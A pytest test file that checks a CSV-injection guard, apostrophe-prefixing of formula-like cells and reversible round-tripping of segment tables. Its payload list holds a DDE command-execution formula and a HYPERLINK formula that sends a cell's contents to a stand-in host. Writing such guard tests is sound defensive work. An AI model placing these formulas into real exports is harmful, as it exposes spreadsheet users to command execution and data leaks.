"""Cells that a spreadsheet would run, and the way back."""

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from evalkit.segments import Segment, format_segments, parse_segments
from evalkit.spreadsheet import guarded, unguarded

# From OWASP's page "CSV Injection" and write-ups of it (from memory), and full-width forms.
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.invalid?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "  =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
]
RISKY = st.text(alphabet="'=+-@ abé＝", max_size=6)


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_begins_like_a_formula(formula: str) -> None:
    assert guarded(formula) == "'" + formula
    text = format_segments([Segment(1, 2, "tap", formula, "+slab")])
    for row in csv.reader(io.StringIO(text)):
        for cell in row[2:]:
            assert cell.lstrip()[:1] not in tuple("=+-@＝＋－＠")


@pytest.mark.parametrize("harmless", ["", "loud", "a=b", "'t was loud", "3 dB", "x-y", "(-1)", "é"])
def test_other_cells_stay_as_they_are(harmless: str) -> None:
    assert guarded(harmless) == harmless == unguarded(harmless)


@settings(derandomize=True, deadline=None, max_examples=500)
@given(RISKY)
def test_there_and_back(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert guarded(text).lstrip()[:1] not in tuple("=+-@＝")


@settings(derandomize=True, deadline=None, max_examples=200)
@given(note=RISKY, label=RISKY.filter(lambda text: text.strip() == text != ""), phone=RISKY.map(str.strip))
def test_labels_come_back_unchanged(
    tmp_path_factory: pytest.TempPathFactory, note: str, label: str, phone: str
) -> None:
    segment = Segment(0.5, 1.5, label, note, phone)
    text = format_segments([segment])
    assert parse_segments(text, path=tmp_path_factory.getbasetemp(), duration_s=2.0) == (segment,)


def test_a_table_from_elsewhere_is_read_as_it_is() -> None:
    text = "start_s,end_s,label,note\n1,2,tap,=1+1\n"
    from pathlib import Path

    assert parse_segments(text, path=Path("a.csv"), duration_s=3.0)[0].note == "=1+1"
